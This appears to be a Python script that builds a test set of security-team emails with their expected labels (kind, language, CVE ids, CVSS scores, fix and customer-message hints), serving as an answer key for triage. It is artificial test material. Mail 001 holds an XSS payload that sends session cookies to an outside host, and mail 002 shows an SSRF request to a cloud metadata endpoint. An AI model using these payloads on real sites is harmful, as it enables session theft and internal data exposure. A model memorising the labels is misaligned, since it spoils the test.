#!/usr/bin/env python3
"""Writes the hand-written mails of this set and expected.jsonl.

Every mail below is its own literal text; this script only takes care of
MIME structure, charsets and transfer encodings (stdlib `email`)."""
import os, json
from email.message import EmailMessage
from email import policy

OUT = os.path.dirname(os.path.abspath(__file__))
KEYS = ["file", "kind", "language", "cve_ids", "cvss_vector", "cvss_score",
        "reported_score", "has_remediation", "remediation_hint",
        "has_customer_message", "customer_message_hint"]


def lab(kind, lang, cves=(), vector=None, score=None, reported=None,
        fix=None, cust=None):
    return {"kind": kind, "language": lang, "cve_ids": sorted(cves),
            "cvss_vector": vector, "cvss_score": score,
            "reported_score": reported,
            "has_remediation": fix is not None, "remediation_hint": fix,
            "has_customer_message": cust is not None,
            "customer_message_hint": cust}


MAILS = []

# ---------------------------------------------------------------- 001
MAILS.append(dict(file="001-stored-xss-postino-signature.eml", headers=[
    ("From", "Dmitri Halloran <d.halloran@mailbox.example>"),
    ("To", "security@example.test"),
    ("Subject", "Stored XSS in Postino webmail (signature field)"),
    ("Date", "Mon, 03 Mar 2025 09:14:22 +0000"),
    ("Message-ID", "<CAF8x1q9Zr2@mail.mailbox.example>"),
], text="""Hi,

found a stored XSS in Postino (webmail.example.test, build shown in the
footer is 4.12.3).

The signature editor strips <script> but not event handlers on <svg>. Put
this in Settings > Identities > Signature:

  <svg/onload=fetch('//x.mailbox.example/'+document.cookie)>

then send a mail to any other Postino user. When they open the message and
hit "Reply", the quoted signature is rendered and the payload runs in
their session. Session cookie is not HttpOnly so it leaks.

CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N

I tested only between my own two accounts. Haven't looked at how you
sanitize, so no suggestion from me on the fix side.

Dmitri
""", label=lab("vulnerability", "en",
    vector="CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N", score=5.4)))

# ---------------------------------------------------------------- 002
MAILS.append(dict(file="002-ssrf-quadro-importa-da-url.eml", headers=[
    ("From", "Chiara Benvenuti <chiara.benvenuti@posta.example>"),
    ("To", "security@example.test"),
    ("Subject", "[Segnalazione] SSRF nella funzione \"Importa da URL\" di Quadro"),
    ("Date", "Tue, 11 Mar 2025 22:41:07 +0100"),
    ("Message-ID", "<20250311224107.4411@posta.example>"),
], charset="iso-8859-1", cte="quoted-printable", text="""Buonasera,

vi scrivo come ricercatrice indipendente. Ho trovato una SSRF nel pannello
Quadro e vi mando i dettagli qui sotto, in modo responsabile. Non ho reso
pubblico nulla e non lo farò prima di una vostra risposta.

## Descrizione

La funzione "Importa da URL" del file manager (Quadro 7.4, hosting
condiviso) scarica il file lato server senza controllare l'indirizzo di
destinazione. Si possono quindi raggiungere servizi interni, compreso
l'endpoint dei metadati della piattaforma cloud.

## Passi per riprodurre

1. Accedere a Quadro con un account hosting qualsiasi.
2. File manager > Importa da URL.
3. Inserire http://169.254.169.254/latest/meta-data/iam/ e confermare.
4. Il file salvato nella home contiene la risposta del servizio metadati.

## Impatto

Lettura di dati interni (metadati, pannelli di amministrazione raggiungibili
solo dalla rete interna). Non ho provato a usare le credenziali, mi sono
fermata alla lista dei ruoli.

CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:L/SI:N/SA:N

## Mitigazione suggerita

Validare l'host di destinazione dopo la risoluzione DNS e rifiutare gli
indirizzi privati, loopback e link-local; in alternativa far passare i
download da un proxy in uscita senza accesso alla rete interna.

## Testo per l'advisory

Se pubblicate un avviso, proporrei: "Una vulnerabilità nel file manager di
Quadro permetteva a un utente autenticato di leggere risorse interne; non
sono richieste azioni da parte dei clienti."

Cordiali saluti,
Chiara Benvenuti
""", label=lab("vulnerability", "it",
    vector="CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:L/SI:N/SA:N", score=7.1,
    fix="Validare l'host di destinazione",
    cust="non sono richieste azioni da parte dei")))

# ---------------------------------------------------------------- 003
MAILS.append(dict(file="003-bountynest-new-report-idor-invoices.eml", headers=[
    ("From", "BountyNest <notifications@bountynest.example>"),
    ("To", "Example Hosting Security <security@example.test>"),
    ("Subject", "[BountyNest] New report #48213 for Example Hosting: IDOR on /api/v2/invoices/{id}"),
    ("Date", "Wed, 19 Mar 2025 14:02:55 +0000"),
    ("Message-ID", "<report-48213.1742392975@bountynest.example>"),
], text="""BountyNest - New report submitted

Program: Example Hosting (private)
Report: #48213
Title: IDOR on /api/v2/invoices/{id}
Researcher: kestrel_sec
Severity (researcher): Medium
CVSS: CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N
Asset: api.example.test

Summary
Any authenticated customer can download another customer's invoice PDF
by changing the numeric id in GET /api/v2/invoices/{id}/pdf. The ids are
sequential. Invoices contain name, billing address, VAT number and the
last four digits of the card.

Steps
1. Log in as customer A, open Billing, note own invoice id (e.g. 1184520).
2. Request GET /api/v2/invoices/1184519/pdf with A's bearer token.
3. The invoice of a different customer is returned (HTTP 200).

The researcher stopped after 2 requests and deleted the files.

View the full report and reply: https://bountynest.example/reports/48213

You are receiving this because you are a member of the Example Hosting
program team. Manage notifications in your BountyNest settings.
""", html="""<html><body style="font-family:Arial,sans-serif">
<h2>BountyNest &ndash; New report submitted</h2>
<table border="1" cellpadding="6" cellspacing="0">
<tr><th>Program</th><td>Example Hosting (private)</td></tr>
<tr><th>Report</th><td>#48213</td></tr>
<tr><th>Title</th><td>IDOR on /api/v2/invoices/{id}</td></tr>
<tr><th>Researcher</th><td>kestrel_sec</td></tr>
<tr><th>Severity (researcher)</th><td>Medium</td></tr>
<tr><th>CVSS</th><td>CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N</td></tr>
<tr><th>Asset</th><td>api.example.test</td></tr>
</table>
<h3>Summary</h3>
<p>Any authenticated customer can download another customer's invoice PDF
by changing the numeric id in <code>GET /api/v2/invoices/{id}/pdf</code>. The ids are
sequential. Invoices contain name, billing address, VAT number and the
last four digits of the card.</p>
<h3>Steps</h3>
<ol>
<li>Log in as customer A, open Billing, note own invoice id (e.g. 1184520).</li>
<li>Request <code>GET /api/v2/invoices/1184519/pdf</code> with A's bearer token.</li>
<li>The invoice of a different customer is returned (HTTP 200).</li>
</ol>
<p>The researcher stopped after 2 requests and deleted the files.</p>
<p><a href="https://bountynest.example/reports/48213">View the full report and reply</a></p>
<p style="color:#888;font-size:11px">You are receiving this because you are a member of the Example Hosting
program team. Manage notifications in your BountyNest settings.</p>
</body></html>
""", label=lab("vulnerability", "en",
    vector="CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N", score=6.5)))

# ---------------------------------------------------------------- 004
MAILS.append(dict(file="004-angry-customer-site-redirects-casino.eml", headers=[
    ("From", "Gary Whitcombe <gary@whitcombe-joinery.example>"),
    ("To", "security@example.test, support@example.test"),
    ("Subject", "YOUR SERVER HAS BEEN HACKED - my site goes to a casino!!!"),
    ("Date", "Sat, 22 Mar 2025 07:58:10 +0000"),
    ("Message-ID", "<A1B2C3D4-7E9F-4C11-9A0B-55D2E1F0AA01@whitcombe-joinery.example>"),
], text="""I have been a customer for 6 years and this is unacceptable.

Since last night anyone who opens whitcombe-joinery.example on a phone
gets sent to some casino site. On my laptop it looks normal. My wife found
it when she googled us. I have not touched the site in months, I dont even
know the wordpress password anymore, so this is on YOUR side. The other
sites on the same server are probably the same.

I also got an email at 3am saying my Quadro password was changed. I did
not change it.

I want to know who did this and I want it fixed today, I have customers
looking at my site for quotes. And frankly you should tell all your
customers on that server that their sites may have been tampered with
and to check them, because if it happened to me it happened to them.

Gary Whitcombe
Whitcombe Joinery

Sent from my iPhone
""", label=lab("incident", "en",
    cust="their sites may have been tampered with")))

# ---------------------------------------------------------------- 005
MAILS.append(dict(file="005-rivenditore-phishing-rinnovo-dominio.eml", headers=[
    ("From", "Massimo Ferrandi <m.ferrandi@ferrandi-informatica.example>"),
    ("To", "security@example.test"),
    ("Cc", "partner@example.test"),
    ("Subject", "Phishing a nome vostro verso i miei clienti (rinnovo dominio)"),
    ("Date", "Thu, 27 Mar 2025 11:20:44 +0100"),
    ("Message-ID", "<000a01db9f0e$3c2e1a40$b48a4ec0$@ferrandi-informatica.example>"),
], charset="windows-1252", cte="8bit", text="""Buongiorno,

sono Massimo Ferrandi di Ferrandi Informatica, vostro rivenditore da parecchi
anni (codice partner R-0417). Da ieri pomeriggio almeno sette dei miei clienti
mi hanno chiamato perché hanno ricevuto una mail che sembra vostra, con il
vostro logo, che dice che il dominio scade "entro 24 ore" e che bisogna pagare
il rinnovo a 4,90 € con carta. Il link porta a una pagina identica al vostro
pannello ma su un dominio tipo example-rinnovi.example.

Due clienti purtroppo hanno inserito i dati della carta prima di sentirmi, uno
dei due ha già visto un addebito strano. Le mail arrivano da un indirizzo
noreply@ che imita il vostro, vi inoltro a parte gli originali con gli header
completi.

Quello che mi preoccupa è che sapevano esattamente quali domini scadono a
maggio, quindi non è una mail a caso: i dati da qualche parte sono usciti,
o da voi o dal vostro sistema partner.

Io ai clienti scriverei che non chiediamo mai il pagamento del rinnovo via
link in una mail e che, se hanno inserito la carta, devono bloccarla subito
con la banca. Se mi mandate un testo ufficiale vostro lo giro a tutti.

Fatemi sapere al più presto, grazie.

Massimo Ferrandi
Ferrandi Informatica s.n.c.
Via dei Mille 22 - Brescia
""", label=lab("incident", "it",
    cust="non chiediamo mai il pagamento")))

# ---------------------------------------------------------------- 006
MAILS.append(dict(file="006-vendor-pixelrake-advisory-cve.eml", headers=[
    ("From", "Pixelrake Security Team <security@pixelrake.example>"),
    ("To", "security@example.test"),
    ("Subject", "Pre-disclosure notice: CVE-2025-31337 in pixelrake < 2.4.9 (embargo until 15 April)"),
    ("Date", "Tue, 01 Apr 2025 16:30:00 +0000"),
    ("Message-ID", "<pd-2025-04-pixelrake-31337@pixelrake.example>"),
], text="""Hello,

You are receiving this notice because Example Hosting is listed in our
downstream distributor list as shipping pixelrake (the thumbnail
generation in your Quadro file manager and the Postino attachment preview,
according to the SBOM you shared with us last year).

Please treat this information as confidential until the public release
on 15 April 2025, 14:00 UTC.

Advisory PR-2025-003
====================

Identifier: CVE-2025-31337
Affected:   pixelrake 2.0.0 through 2.4.8
Fixed in:   2.4.9 (tag available to distributors now, see link below)

A crafted TIFF file with a malformed strip offset table causes an
unbounded loop in the decoder. A single upload pins one CPU core until
the worker is killed; a few files are enough to exhaust a thumbnail pool.
No memory corruption was found.

CVSS v3.1: CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H (7.5)
CVSS v4.0: CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:H/SC:N/SI:N/SA:N (8.7)

Remediation
-----------
Bumping to 2.4.9 closes it. If you cannot update before the embargo
lifts, disable TIFF in the list of accepted formats (PIXELRAKE_FORMATS)
or put a hard timeout on thumbnail workers.

Customer notice (suggested text, feel free to adapt)
---------------------------------------------------
"A denial-of-service issue in an image processing library used by our
service has been fixed. No customer data was exposed and no action is
needed on your side."

Distributor tarball: https://pixelrake.example/embargo/2.4.9/ (token in
the separate mail). Please confirm receipt.

Regards,
Ines Kowalczyk
pixelrake maintainers / security
""", label=lab("vulnerability", "en", cves=["CVE-2025-31337"],
    vector="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:H/SC:N/SI:N/SA:N", score=8.7,
    fix="Bumping to 2.4.9 closes it",
    cust="No customer data was exposed")))

# ---------------------------------------------------------------- 007
MAILS.append(dict(file="007-journalist-request-for-comment.eml", headers=[
    ("From", "Priya Raman <priya.raman@thewirebeat.example>"),
    ("To", "press@example.test, security@example.test"),
    ("Subject", "Request for comment - story on European hosting providers' disclosure policies"),
    ("Date", "Fri, 04 Apr 2025 10:05:31 +0100"),
    ("Message-ID", "<CAJr7Pq0bW3@mail.thewirebeat.example>"),
], text="""Hello,

I'm a reporter at The Wire Beat, working on a piece about how mid-sized
European hosting companies handle vulnerability reports from outside
researchers - whether they have a published policy, a safe harbour
statement, a bug bounty, how long they typically take to respond.

I'm not writing about any specific incident at Example Hosting and I'm not
aware of one. I'd just like to include you among the companies we asked.

A few questions, short answers are fine:

1. Do you have a public vulnerability disclosure policy or security.txt?
2. Do you run a bug bounty (public or private)?
3. What is your target time to first response?
4. Would someone be available for a 15-minute call next week?

My deadline is Thursday 10 April, 17:00 CET.

Thanks,
Priya Raman
Technology reporter, The Wire Beat
+44 20 7946 0321
""", label=lab("unknown", "en")))

# ---------------------------------------------------------------- 008
MAILS.append(dict(file="008-scanharbor-weekly-tls-findings.eml", headers=[
    ("From", "ScanHarbor Reports <no-reply@scanharbor.example>"),
    ("To", "security@example.test"),
    ("Subject", "[ScanHarbor] Weekly external scan - 2 findings on mail.example.test"),
    ("Date", "Mon, 07 Apr 2025 03:00:12 +0000"),
    ("Message-ID", "<scan-7731-20250407030012@scanharbor.example>"),
], text="""ScanHarbor external attack surface report
Subscription: EXH-7731 (Example Hosting)
Scan window: 2025-04-06 22:00 - 2025-04-07 02:41 UTC
Targets scanned: 214   Findings: 2 (0 critical, 0 high, 1 medium, 1 low)

------------------------------------------------------------
Finding 1 of 2
Host: mail.example.test (198.51.100.25)
Port: 465/tcp (smtps)
Title: Deprecated TLS protocol versions supported
Severity: Medium
score: 6.4 (medium)
First seen: 2025-03-31
Evidence: server accepted TLSv1.0 and TLSv1.1 handshakes,
  cipher TLS_RSA_WITH_AES_128_CBC_SHA negotiated with TLSv1.0
References: CVE-2011-3389
Remediation: Disable TLSv1.0 and TLSv1.1 on this listener and
  remove CBC-mode RSA key exchange suites.

------------------------------------------------------------
Finding 2 of 2
Host: mail.example.test (198.51.100.25)
Port: 465/tcp (smtps)
Title: Certificate expires in less than 30 days
Severity: Low
First seen: 2025-04-07
Evidence: notAfter=May  2 23:59:59 2025 GMT
Remediation: Renew the certificate.

------------------------------------------------------------
This is an automated message. Log in to the ScanHarbor console to mark
findings as accepted risk or false positive.
""", label=lab("vulnerability", "en", cves=["CVE-2011-3389"], reported=6.4,
    fix="Disable TLSv1.0 and TLSv1.1")))

# ---------------------------------------------------------------- 009
MAILS.append(dict(file="009-mssp-soc-ssh-bruteforce-from-vps.eml", headers=[
    ("From", "Northgate MSSP SOC <soc@northgate-mssp.example>"),
    ("To", "abuse@example.test, security@example.test"),
    ("Subject", "TLP:AMBER - SSH brute force against our client originating from 203.0.113.77 [NG-INC-20250409-0112]"),
    ("Date", "Wed, 09 Apr 2025 04:47:19 +0000"),
    ("Message-ID", "<NG-INC-20250409-0112@soc.northgate-mssp.example>"),
], text="""TLP:AMBER

Hello Example Hosting abuse / security team,

Northgate MSSP monitors the perimeter of a customer of ours (financial
sector, name withheld). Since 2025-04-09 01:12 UTC our sensors record a
sustained SSH password-guessing campaign from an address in your range.

Case ID:       NG-INC-20250409-0112
Source IP:     203.0.113.77 (ASN 64500, Example Hosting - VPS pool FRA-2)
Target:        client perimeter, 16 addresses, port 22/tcp
Start (UTC):   2025-04-09 01:12:40
Last seen:     2025-04-09 04:39:02 (ongoing)
Volume:        approx. 41,000 attempts, 380 distinct usernames
Tooling:       behaviour consistent with a known Go-based SSH scanner;
               usernames list matches a common botnet dictionary
Analyst note:  the pattern (fixed 7s interval, same client banner) suggests
               the VPS itself is compromised rather than rented by the attacker

Requested action: please isolate the VPS behind 203.0.113.77 and notify
its owner. We have blocked the address at our client's edge on our side.

Log excerpt (times UTC, our sensor):
2025-04-09T04:38:57Z sshd-sensor src=203.0.113.77:51544 user=oracle fail
2025-04-09T04:39:00Z sshd-sensor src=203.0.113.77:51590 user=ubuntu fail
2025-04-09T04:39:02Z sshd-sensor src=203.0.113.77:51612 user=admin fail

Regards,
Tomasz Lindqvist
Tier 2 Analyst, Northgate MSSP Security Operations Center
24/7: +31 20 555 0147

TLP:AMBER - recipients may share this information only within their
organisation and with clients who need to know.
""", label=lab("incident", "en",
    fix="isolate the VPS behind 203.0.113.77")))

# ---------------------------------------------------------------- 010
MAILS.append(dict(file="010-pec-comune-questionario-fornitori.eml", headers=[
    ("From", "Comune di Valdorso - Ufficio Protocollo <protocollo@pec.comune.valdorso.example>"),
    ("To", "security@example.test"),
    ("Subject", "POSTA CERTIFICATA: Prot. n. 0008841/2025 - Richiesta compilazione questionario sicurezza fornitori ICT"),
    ("Date", "Mon, 14 Apr 2025 12:31:05 +0200"),
    ("Message-ID", "<opec210.20250414123105.18822.07.1.3@pec.comune.valdorso.example>"),
], charset="iso-8859-1", cte="quoted-printable", text="""Messaggio di posta certificata

Il giorno 14/04/2025 alle ore 12:31:05 (+0200) il messaggio
"Prot. n. 0008841/2025 - Richiesta compilazione questionario sicurezza fornitori ICT"
è stato inviato da "protocollo@pec.comune.valdorso.example"
indirizzato a:
security@example.test
Il messaggio originale è incluso in allegato.

----------------------------------------------------------------------

Spett.le Example Hosting S.r.l.,

con riferimento al contratto di servizi di hosting e posta elettronica in
essere con questo Ente (CIG Z4A3B2C1D0), e in attuazione delle misure
previste per la sicurezza della catena di approvvigionamento, si chiede
cortesemente di compilare il questionario di valutazione dei fornitori ICT
allegato alla presente (file "Questionario_Fornitori_2025.xlsx") e di
restituirlo firmato digitalmente entro 30 giorni dal ricevimento.

Si chiede inoltre di indicare un referente per la sicurezza delle
informazioni e i relativi recapiti, nonché copia delle eventuali
certificazioni in corso di validità (es. ISO/IEC 27001).

Si precisa che la presente richiesta non è connessa ad alcun evento di
sicurezza e ha carattere puramente ricognitivo.

Distinti saluti.

Il Responsabile del Servizio Sistemi Informativi
Dott. Ing. Renato Stoppani
(documento firmato digitalmente ai sensi del D.Lgs. 82/2005)
""", label=lab("unknown", "it")))
# ---------------------------------------------------------------- 011
MAILS.append(dict(file="011-re-ticket-directory-listing-backup.eml", headers=[
    ("From", "Lorenzo Gatti <lorenzo.gatti@studiogatti.example>"),
    ("To", "Example Hosting Security <security@example.test>"),
    ("Subject", "R: [SEC-2025-0391] Ricevuta segnalazione - listing directory /backup"),
    ("Date", "Wed, 16 Apr 2025 18:02:37 +0200"),
    ("Message-ID", "<AM9PR07MB7181F2C0D1E4A3B@AM9PR07MB7181.eurprd07.prod.outlook.example>"),
    ("In-Reply-To", "<sec-2025-0391-ack@example.test>"),
], charset="iso-8859-1", cte="8bit", text="""Buonasera,

grazie per la risposta. Come richiesto vi do i dettagli che mancavano.

Il problema non riguarda solo il mio sito. Sul vostro hosting condiviso
(piano Business, server web14) la directory /backup/ creata dallo
strumento di backup automatico di Quadro finisce dentro la document root e
il server ha l'autoindex attivo. Risultato: chiunque apra
https://<dominio-cliente>/backup/ vede la lista degli archivi .tar.gz con
dentro database e wp-config.php. Ho provato su tre domini di conoscenti
(con il loro permesso) ed è uguale per tutti.

Io lo valuterei CVSS 7,5 perché non serve autenticazione e le password dei
database sono lì in chiaro.

Per correggerlo basterebbe disattivare l'autoindex di default e spostare i
backup fuori dalla document root. Sul mio sito ho già messo un .htaccess
con "Deny from all", ma gli altri clienti non sanno nemmeno che esiste.

Saluti,
Lorenzo Gatti
Studio Gatti - Consulenza informatica

________________________________
Da: Example Hosting Security <security@example.test>
Inviato: mercoledì 16 aprile 2025 09:12
A: Lorenzo Gatti <lorenzo.gatti@studiogatti.example>
Oggetto: [SEC-2025-0391] Ricevuta segnalazione - listing directory /backup

Gentile cliente,

abbiamo ricevuto la sua segnalazione e le abbiamo assegnato il numero
SEC-2025-0391. Per procedere con l'analisi le chiediamo di indicarci il
server interessato e, se possibile, i passaggi per riprodurre il problema.

Cordiali saluti,
Team Sicurezza Example Hosting
""", label=lab("vulnerability", "it", reported=7.5,
    fix="basterebbe disattivare l'autoindex")))

# ---------------------------------------------------------------- 012
MAILS.append(dict(file="012-csirt-nazionale-phishing-kit-ip.eml", headers=[
    ("From", "CSIRT Nazionale - Segnalazioni <segnalazioni@csirt.gov.example>"),
    ("To", "security@example.test, abuse@example.test"),
    ("Subject", "[TLP:AMBER] Segnalazione n. 2025-IT-07712 - Pagina di phishing ospitata su vostra infrastruttura"),
    ("Date", "Thu, 17 Apr 2025 09:45:00 +0200"),
    ("Message-ID", "<2025-IT-07712.1744875900@csirt.gov.example>"),
], text="""TLP:AMBER

Alla cortese attenzione del team di sicurezza di Example Hosting S.r.l.

Questo CSIRT ha rilevato, nell'ambito delle attività di monitoraggio, una
campagna di phishing ai danni dei clienti di un istituto bancario
nazionale. La pagina di raccolta credenziali risulta ospitata su un indirizzo
IP appartenente al vostro spazio di indirizzamento.

Riferimento:           2025-IT-07712
Tipologia:             Phishing (raccolta credenziali home banking)
URL:                   hxxps://sicurezza-accesso-clienti[.]example/it/login.php
Indirizzo IP:          192.0.2.148
Prima rilevazione:     17/04/2025 06:20 (ora italiana)
Stato al momento
dell'invio:            attiva

Dall'analisi risulta che il kit è stato caricato nella cartella
/wp-content/uploads/2025/04/ di un sito WordPress apparentemente legittimo,
verosimilmente compromesso tramite un plugin non aggiornato.

Si richiede la rimozione del contenuto malevolo nel più breve tempo
possibile e la conservazione dei log di accesso relativi al periodo
15/04/2025 - 17/04/2025, che potranno essere richiesti dall'Autorità
giudiziaria. Si prega di dare riscontro a questo indirizzo citando il
numero di riferimento.

Distinti saluti,
CSIRT Nazionale - Servizio di gestione segnalazioni

Le informazioni contenute nella presente comunicazione sono classificate
TLP:AMBER e possono essere condivise solo all'interno della vostra
organizzazione e con i soggetti strettamente necessari alla gestione
dell'evento.
""", label=lab("incident", "it",
    fix="rimozione del contenuto malevolo")))

# ---------------------------------------------------------------- 013
MAILS.append(dict(file="013-pgp-signed-cli-token-refresh.eml", headers=[
    ("From", "Aleksander Ruud <aruud@ruud-labs.example>"),
    ("To", "security@example.test"),
    ("Subject", "exh-cli: refresh token accepted for other accounts under race"),
    ("Date", "Sun, 20 Apr 2025 21:17:49 +0200"),
    ("Message-ID", "<8d1f3e2a-5b6c-4d7e-9f01-a2b3c4d5e6f7@ruud-labs.example>"),
], text="""-----BEGIN PGP SIGNED MESSAGE-----
Hash: SHA256

Hello Example Hosting security,

I'd like to report an authentication issue in the token refresh flow
used by exh-cli (tested with 3.8.0 and 3.8.2 on Linux) against
https://auth.example.test/oauth/token.

Summary
- -------
When two refresh requests for the same refresh token arrive within a
few milliseconds, the second one is served from a cache keyed only on
the client_id. If a different user of the same client_id (every exh-cli
install uses the same public client) refreshes in that window, they can
receive the access token of the first user.

I reproduced it between two of my own accounts by firing refreshes in a
tight loop from two machines: about 1 in 3,000 attempts returned the
other account's token (verified by calling /v1/account/whoami). In the
real world the attacker needs luck and volume, but the result is full
access to a random customer account.

Severity
- --------
CVSS:4.0/AV:N/AC:H/AT:P/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N

Suggested advisory wording
- --------------------------
"Under rare timing conditions an access token could be issued to the
wrong exh-cli user. Affected users have been notified and their tokens
revoked."

I have not tried to work around it on the client side; as far as I can
tell it's purely a server-side cache issue. I plan to publish after 90
days or once fixed, whichever comes first. My key is on the usual
keyservers, fingerprint below.

Aleksander Ruud
Ruud Labs
-----BEGIN PGP SIGNATURE-----

iQEzBAEBCAAdFiEE3m6Hq0c0pX8m2fK4n1wz7bV9aE0FAmgFTz0ACgkQn1wz7bV9
aE2kLwf/ZcJ4lq8s2P1oVxT0hWmQeF3nD9KjR7uA6yB1gH5sL2tC8vN0xZ4oE7iU
r3wQ9dF6aS1jK5mL8nB0vC2xZ7eT4yU1iO3pA6sD9fG2hJ5kL8zX1cV4bN7mQ0wE
3rT6yU9iO2pA5sD8fG1hJ4kL7zX0cV3bN6mQ9wE2rT5yU8iO1pA4sD7fG0hJ3kL6
zX9cV2bN5mQ8wE1rT4yU7iO0pA3sD6fG9hJ2kL5zX8cV1bN4mQ7wE0rT3yU6iO9p
A2sD5fG8hJ1kL4zX7cV0bN3mQ6wE9rT2yU5iO8pA1sD4fG7hJ0kL3zX6cV9bN2mQ
5wE8rT1yU4iO7pA0sD3fG6hJ9kL2zX5cV8bN1mQ4wE7rT0yU3iO6p==
=Qm4T
-----END PGP SIGNATURE-----
""", label=lab("vulnerability", "en",
    vector="CVSS:4.0/AV:N/AC:H/AT:P/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N", score=9.1,
    cust="Affected users have been notified")))

# ---------------------------------------------------------------- 014
MAILS.append(dict(file="014-fwd-cliente-dump-database-paste.eml", headers=[
    ("From", "Owen Brady <owen.brady@example.test>"),
    ("To", "security@example.test"),
    ("Subject", "Fwd: urgente - i nostri dati clienti sono su un sito di paste??"),
    ("Date", "Tue, 22 Apr 2025 08:34:12 +0200"),
    ("Message-ID", "<CAOw3nBr4dY=ab12@mail.example.test>"),
], text="""FYI - came into support overnight, looks like one for you. Customer is
on managed VPS, account 55102.

Owen

---------- Forwarded message ---------
From: Federica Lanza <f.lanza@ortofrutta-lanza.example>
Date: Tue, 22 Apr 2025 at 00:51
Subject: urgente - i nostri dati clienti sono su un sito di paste??
To: <support@example.test>


Buonasera,

un cliente ci ha appena mandato un link a un sito tipo pastebin dove c'è
quello che sembra il dump completo della tabella clienti del nostro
e-commerce (ortofrutta-lanza.example): nomi, indirizzi, email, telefoni e
anche gli hash delle password. Le ultime righe sono ordini di domenica,
quindi è roba recentissima.

Il sito gira sul VPS gestito da voi, noi non abbiamo accesso al database
se non dal pannello. Non sappiamo come sia possibile. Qualcuno è entrato
nel server? Cosa dobbiamo fare adesso, dobbiamo avvisare il Garante?

Vi prego di richiamarmi appena possibile al 347 555 0192.

Federica Lanza
Ortofrutta Lanza
""", label=lab("incident", "it")))

# ---------------------------------------------------------------- 015
MAILS.append(dict(file="015-customer-asks-xz-backdoor.eml", headers=[
    ("From", "Hannah Oduya <h.oduya@brightledger.example>"),
    ("To", "security@example.test"),
    ("Subject", "Question: are your VPS images affected by CVE-2024-3094?"),
    ("Date", "Wed, 23 Apr 2025 13:26:03 +0100"),
    ("Message-ID", "<etPan.6808e4fb.2ae8944a.3c1@brightledger.example>"),
], text="""Hi there,

Our auditors are going through our supplier list and one of the items
they want evidence for is the xz-utils backdoor (CVE-2024-3094). We run
four VPS instances with you, all created from your Debian 12 and
Ubuntu 24.04 templates between 2023 and this year.

Could you confirm in writing whether any of your base images ever shipped
the affected xz 5.6.0 / 5.6.1 packages, and if so in which date range?
A short statement on letterhead or a link to a status page would be
enough for them.

We haven't seen anything wrong, this is purely a compliance question.

Many thanks,
Hannah Oduya
IT & Compliance, BrightLedger Ltd
""", label=lab("unknown", "en", cves=["CVE-2024-3094"])))

# ---------------------------------------------------------------- 016
MAILS.append(dict(file="016-universita-csrf-editor-dns.eml", headers=[
    ("From", "Prof. Giulio Marchetti <giulio.marchetti@dii.unimarca.example>"),
    ("To", "security@example.test"),
    ("Cc", "Sara Orlandi <sara.orlandi@studenti.unimarca.example>"),
    ("Subject", "Segnalazione vulnerabilità CSRF nell'editor DNS di Quadro"),
    ("Date", "Fri, 25 Apr 2025 10:12:40 +0200"),
    ("Message-ID", "<b71e0c2d-4f5a-6b7c-8d9e-0f1a2b3c4d5e@dii.unimarca.example>"),
], text="""Gentili Signori,

nell'ambito di un'attività didattica del corso di Sicurezza delle
Applicazioni Web, la studentessa Sara Orlandi (in copia), sotto la mia
supervisione, ha individuato una vulnerabilità nel pannello Quadro, che il
nostro dipartimento utilizza per alcuni domini di progetto. Le prove sono
state effettuate esclusivamente su un dominio di nostra proprietà.

Sintesi della vulnerabilità:

1. Componente: editor dei record DNS di Quadro (pagina "Zona DNS").
2. Tipo: Cross-Site Request Forgery. La richiesta POST
   /dns/zone/record/add non contiene alcun token e il cookie di sessione
   non ha l'attributo SameSite.
3. Scenario: un utente autenticato al pannello che visita una pagina
   preparata dall'attaccante aggiunge senza saperlo un record (per
   esempio un MX o un CNAME verso un server dell'attaccante).
4. Conseguenze: intercettazione della posta, emissione di certificati per
   sottodomini, phishing credibile.
5. Valutazione: CVSS:3.0/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N
6. Correzione proposta: introdurre un token anti-CSRF per sessione su tutti
   i form che modificano dati e impostare SameSite=Lax sul cookie di
   sessione.

Restiamo a disposizione per ulteriori chiarimenti e, se lo ritenete
opportuno, per verificare la correzione. Chiederemmo cortesemente di poter
citare la segnalazione nella tesi della studentessa una volta risolta.

Cordiali saluti,

Prof. Giulio Marchetti
Dipartimento di Ingegneria dell'Informazione
Università degli Studi della Marca
""", label=lab("vulnerability", "it",
    vector="CVSS:3.0/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N", score=6.5,
    fix="introdurre un token anti-CSRF")))

# ---------------------------------------------------------------- 017
MAILS.append(dict(file="017-cliente-casella-compromessa-spam.eml", headers=[
    ("From", "Rosanna Pellegrino <rosanna@pellegrino-viaggi.example>"),
    ("To", "security@example.test"),
    ("Subject", "la mia casella manda spam da sola"),
    ("Date", "Mon, 28 Apr 2025 19:44:18 +0200"),
    ("Message-ID", "<1745862258.392817@webmail.example.test>"),
], text="""Salve, scusate se scrivo qui ma al telefono non risponde nessuno.
Da stamattina la mia casella rosanna@pellegrino-viaggi.example sta mandando
centinaia di mail a gente che non conosco, con scritto "fattura in
allegato" e un link. Me ne sono accorta perché mi sono tornate indietro
tantissime mail di errore e due clienti mi hanno chiamato arrabbiati. Nella
cartella Inviati del webmail ci sono messaggi che non ho scritto io, il
primo è delle 6:12. Io a quell'ora dormivo. Mio figlio dice che qualcuno ha
rubato la password, forse da quella mail finta della banca che ho aperto la
settimana scorsa, non so. Abbiamo già cambiato la password dal pannello
alle 17 e da allora sembra che non parta più niente, ma vorrei sapere se
possono essere entrati anche in altre cose, se hanno letto le mie mail e
se il mio indirizzo adesso è bloccato perché alcune mail non arrivano più.
